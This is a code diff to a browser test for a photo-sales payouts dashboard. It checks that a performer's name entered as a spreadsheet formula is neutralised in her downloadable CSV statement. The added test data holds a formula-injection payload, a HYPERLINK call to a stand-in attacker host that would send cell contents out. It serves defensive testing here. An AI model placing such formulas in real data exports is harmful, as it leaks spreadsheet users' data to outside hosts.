@@ -2,8 +2,10 @@
  * Payouts as people see them: a user buys one of Giulia's photos, an admin runs payouts now in the
  * console's 'Pagamenti' tab, and Giulia's dashboard shows the week's statement with her 55% and,
  * below the 50 € minimum, the amount carried over to the next week; the statement opens as a
- * printable page. At phone width the tab still reads.
+ * printable page, and downloads as a CSV where a name she chose that a spreadsheet would read as a
+ * formula is neutralised. At phone width the tab still reads.
  */
+import { readFileSync } from 'node:fs';
 import type { Browser } from 'playwright-core';
 import { streams } from '@aura/contracts';
 import { client, startTestApp, type TestApp } from '../../backend/test/app-harness';
@@ -70,6 +72,11 @@ describeWithChromium('payouts in the browser', () => {
     await admin.getByTestId('admin-carry-row').filter({ hasText: 'Giulia: 6,87 € · Sotto il minimo' }).waitFor();
     await adminContext.close();
 
+    // she names herself with a formula, which her statement's CSV must not run
+    const formulaName = '=HYPERLINK("http://evil.example/?"&A1;"Giulia")';
+    expect((await giulia.send('PATCH', `/api/performers/${giuliaId}`, { name: formulaName })).status).toBe(200);
+    await app.settled();
+
     // 3. Giulia's dashboard: her statement, carried over below the minimum
     const context = await browser.newContext();
     const page = await context.newPage();
@@ -94,6 +101,8 @@ describeWithChromium('payouts in the browser', () => {
     await page.getByRole('button', { name: 'Scarica CSV' }).click();
     const file = await download;
     expect(file.suggestedFilename()).toMatch(/^estratto-conto-\d{4}-\d{2}-\d{2}\.csv$/);
+    const csv = readFileSync(await file.path(), 'utf8').replace('\uFEFF', '').split('\r\n');
+    expect(csv[0]).toBe(`Estratto conto settimanale;"'${formulaName.replace(/"/g, '""')}"`);
 
     // at phone width the tab still reads, with nothing wider than the screen
     await page.setViewportSize({ width: 390, height: 844 });
